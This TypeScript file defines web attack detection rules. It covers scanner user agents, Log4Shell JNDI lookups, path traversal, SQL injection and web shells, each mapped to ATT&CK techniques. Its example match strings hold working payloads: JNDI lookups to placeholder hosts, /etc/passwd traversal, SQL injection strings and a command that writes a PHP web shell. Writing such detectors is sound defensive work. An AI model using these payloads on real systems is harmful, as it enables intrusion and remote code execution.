// Web rules (DECNET R0007–R0009, R0027 and additions from R0100): scanner user agents, Log4Shell JNDI
// lookups, path traversal, SQL injection and web shells. URLs are percent-decoded once before matching.
import type { RepoRule } from './types';

export const webRules: RepoRule[] = [
  {
    id: 'R0007', version: 1, name: 'sqlmap_user_agent', description: 'sqlmap announces itself in its User-Agent: automated SQL injection against a web app.',
    appliesTo: ['user_agent'], match: { kind: 'pattern', pattern: String.raw`\bsqlmap/\d`, flags: 'i' },
    emits: [{ tactic: 'initial-access', technique: 'T1190', confidence: 0.6 }, { tactic: 'reconnaissance', technique: 'T1595', subTechnique: 'T1595.002', confidence: 0.9 }], evidence: ['user_agent'],
    examples: { match: ['sqlmap/1.7.2#stable (https://sqlmap.org)'], noMatch: ['Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0', 'curl/8.5.0'] },
  },
  {
    id: 'R0100', version: 1, name: 'scanner_user_agent', description: 'User agent of a vulnerability or content scanner.',
    appliesTo: ['user_agent'], match: { kind: 'pattern', pattern: String.raw`\b(nikto|nuclei|wpscan|dirbuster|gobuster|feroxbuster|ffuf|wfuzz|acunetix|nessus|openvas|whatweb|zgrab|masscan|jaeles|nmap scripting engine|qualys|netsparker|arachni|skipfish|zmeu)\b`, flags: 'i' },
    emits: [{ tactic: 'reconnaissance', technique: 'T1595', subTechnique: 'T1595.002', confidence: 0.8 }], evidence: ['user_agent'],
    examples: { match: ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'Mozilla/5.00 (Nikto/2.5.0)'], noMatch: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0', 'python-requests/2.31'] },
  },
  {
    id: 'R0008', version: 1, name: 'log4j_jndi', description: 'A JNDI lookup string (Log4Shell, CVE-2021-44228), plain or obfuscated with nested lookups.',
    appliesTo: ['url', 'user_agent', 'command'], match: { kind: 'pattern', pattern: String.raw`\$\{\s*jndi\s*:|\$\{(?:\$\{[^}$]{0,40}\}|[^}$]){1,200}?:\s*(?:ldaps?|rmi|dns|iiop|nis|nds|corba|https?):`, flags: 'i' },
    emits: [{ tactic: 'initial-access', technique: 'T1190', confidence: 0.9 }], evidence: ['match', 'url', 'user_agent'],
    examples: { match: ['${jndi:ldap://198.51.100.7:1389/a}', '/?x=${${lower:j}ndi:ldap://x.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}'], noMatch: ['/index.php?page=${name}', 'Mozilla/5.0 ${HOME}'] },
  },
  {
    id: 'R0009', version: 1, name: 'path_traversal', description: 'Directory traversal out of the web root, or a classic target file in the URL.',
    appliesTo: ['url'], match: { kind: 'pattern', pattern: String.raw`(?:\.\.[\\/]){2,}|(?:%2e%2e|\.\.)(?:%2f|%5c)|%252e%252e|/etc/(?:passwd|shadow)|\\windows\\win\.ini|/proc/self/environ`, flags: 'i' },
    emits: [{ tactic: 'initial-access', technique: 'T1190', confidence: 0.75 }], evidence: ['url', 'match'],
    examples: { match: ['/cgi-bin/.%2e/.%2e/.%2e/bin/sh', '/static/../../../../etc/passwd', '/download?file=..\\..\\windows\\win.ini'], noMatch: ['/images/logo.png', '/a/../b'] },
  },
  {
    id: 'R0101', version: 1, name: 'sql_injection', description: 'SQL injection payloads in the request target.',
    appliesTo: ['url'], match: { kind: 'pattern', pattern: String.raw`union(?:[\s+]|/\*[^*]{0,20}\*/){1,10}(?:all(?:[\s+]|/\*[^*]{0,20}\*/){1,10})?select\b|'\s*(?:or|and)\s*'?\d+'?\s*=\s*'?\d|\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d|information_schema\.|\bxp_cmdshell\b`, flags: 'i' },
    emits: [{ tactic: 'initial-access', technique: 'T1190', confidence: 0.75 }], evidence: ['url', 'match'],
    examples: { match: ["/item.php?id=1' OR '1'='1", '/p?id=1 UNION ALL SELECT null,user()', '/q?id=1 AND SLEEP(5)'], noMatch: ['/union/select-products', '/search?q=sleep+well'] },
  },
  {
    id: 'R0027', version: 1, name: 'web_shell', description: 'Web shell access or a web shell written to disk.',
    appliesTo: ['url', 'command'], match: { kind: 'pattern', pattern: String.raw`/(?:shell|cmd|c99|r57|wso|b374k|webshell)\.(?:php|jsp|aspx?)\b|\.(?:php|jsp|aspx?)\?(?:cmd|exec|command)=|<\?php[^>]{0,200}?\b(?:eval|system|passthru|shell_exec|assert)\s*\(`, flags: 'i' },
    emits: [{ tactic: 'persistence', technique: 'T1505', subTechnique: 'T1505.003', confidence: 0.8 }], evidence: ['url', 'command', 'match'],
    examples: { match: ['/uploads/shell.php?c=id', '/index.php?cmd=whoami', `echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php`], noMatch: ['/index.php?page=about', 'cat index.php'] },
  },
];
